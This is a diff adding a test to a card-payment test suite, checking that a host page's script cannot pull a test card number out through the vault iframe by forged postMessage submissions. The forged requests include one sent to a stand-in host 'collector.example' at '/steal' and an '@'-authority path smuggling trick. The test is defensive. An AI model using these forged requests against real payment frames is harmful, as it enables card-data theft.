@@ -71,6 +71,32 @@ describe('card payment', () => {
     expect(cardData.clearAtApi).to.equal(0);
   });
 
+  it("a host page's script cannot get the card out through the vault's fields: only the vault's configured routes take a submission", async () => {
+    const { mounted, root } = await toCardDetails();
+    await enterCard(root, '5555555555554444', '987');
+    // The number field's frame sits in the element's light DOM: this page is its parent, as a host is.
+    const frame = query<HTMLIFrameElement>(mounted.element, '[id$="-number"] > iframe');
+    const formId = new URLSearchParams(new URL(frame.src).hash.slice(1)).get('formId') ?? '';
+    const forge = (id: string, request: Record<string, unknown>) =>
+      new Promise<{ status: number; body: unknown }>((resolve) => {
+        const onMessage = (event: MessageEvent) => {
+          if (event.source !== frame.contentWindow || event.data?.type !== 'response' || event.data.id !== id) return;
+          window.removeEventListener('message', onMessage);
+          resolve({ status: event.data.status, body: event.data.body });
+        };
+        window.addEventListener('message', onMessage);
+        frame.contentWindow?.postMessage({ type: 'submit', formId, id, names: ['number'], method: 'POST', body: { card: [{}] }, ...request }, SANDBOX.vault);
+      });
+    const answers = [
+      await forge('to-another-host', { host: 'collector.example', path: '/steal' }),
+      await forge('to-an-address', { path: `@${new URL(SANDBOX.demo).host}/steal` }),
+      await forge('to-another-route', { path: '/provider/v1/customers/sign-in' }),
+    ];
+    expect(answers.map((a) => a.status)).to.deep.equal([0, 403, 403]);
+    for (const answer of answers) expect(JSON.stringify(answer.body)).not.to.contain('5555');
+    expect(((await control('card-data')) as { clearAtApi: number }).clearAtApi).to.equal(0);
+  });
+
   it('shows the spec messages for empty and invalid card fields', async () => {
     const { root } = await toCardDetails();
     button(root, 'Proceed').click();
